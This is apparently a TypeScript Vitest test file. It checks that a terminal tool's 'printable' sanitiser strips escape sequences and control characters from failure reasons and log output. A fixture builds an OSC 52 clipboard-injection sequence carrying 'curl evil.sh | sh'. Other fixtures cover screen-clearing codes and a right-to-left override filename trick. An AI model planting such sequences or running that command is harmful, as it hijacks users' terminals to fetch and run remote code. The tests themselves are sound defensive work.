// What reaches the terminal outside a pane is text, never a command to the
// terminal: escape sequences and control characters from command output,
// component logs and error messages are removed before the engine keeps a
// failure reason, so the UI, the notes terminal and `demystify test` all
// print it harmlessly.
import { describe, expect, it } from 'vitest';
import { formatStepLine } from '../../src/engine/headless.js';
import { reduce, type ChapterRunState } from '../../src/engine/step-status.js';
import { printable } from '../../src/text/printable.js';

const ESC = '\x1b';
const osc52 = `${ESC}]52;c;${Buffer.from('curl evil.sh | sh\n').toString('base64')}\x07`;

describe('printable', () => {
  it('removes every kind of escape sequence and control character, and keeps the text', () => {
    expect(printable(`error: ${osc52}denied`)).toBe('error: denied');
    expect(printable(`${ESC}]52;c;aGk=${ESC}\\x`)).toBe('x');
    expect(printable(`\x9d52;c;aGk=\x9cx`)).toBe('x'); // 8-bit OSC and ST
    expect(printable(`${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[?1049h`)).toBe('red ');
    expect(printable(`\x9b31mred`)).toBe('red');
    expect(printable(`a${ESC}Pq#0;2;0;0;0${ESC}\\b${ESC}_apc\x07c${ESC}7d`)).toBe('abcd');
    expect(printable('ring\x07 back\bspace\r\x00nul\x7fdel\x85nel')).toBe('ring backspacenuldelnel');
    expect(printable('user \u202eexe.txt\u202c')).toBe('user exe.txt');
    expect(printable('two\nlines\tand a tab, ünïcödé ✓')).toBe('two\nlines and a tab, ünïcödé ✓');
    // A sequence cut off at the end of the text is removed too.
    expect(printable(`half ${ESC}]52;c;aGk`)).toBe('half ');
  });
});

describe('a failure reason with an OSC 52 sequence in it', () => {
  it('is kept without it, so neither the UI nor `demystify test` sends it to the terminal', () => {
    const start: ChapterRunState = {
      chapterId: 'c',
      stepIds: ['s'],
      steps: { s: { kind: 'todo' } },
      cursor: 0,
      answers: {},
      predictions: {},
    };
    const failed = reduce(start, {
      type: 'failed',
      stepId: 's',
      reason: `the command failed; its output:\n  ${osc52}permission denied`,
      ms: 5,
    });
    const status = failed.steps.s!;
    expect(status).toEqual({
      kind: 'failed',
      reason: 'the command failed; its output:\n  permission denied',
      ms: 5,
    });
    const waiting = reduce(start, {
      type: 'waiting',
      stepId: 's',
      waiting: `w${ESC}]0;title\x07`,
      progress: `p${ESC}[2J`,
    });
    expect(waiting.steps.s).toEqual({ kind: 'waiting', waiting: 'w', progress: 'p' });
    const line = formatStepLine('s', 'check', status, (_c, s) => s);
    expect(line).not.toContain(ESC);
    expect(line).not.toContain('\x07');
  });
});
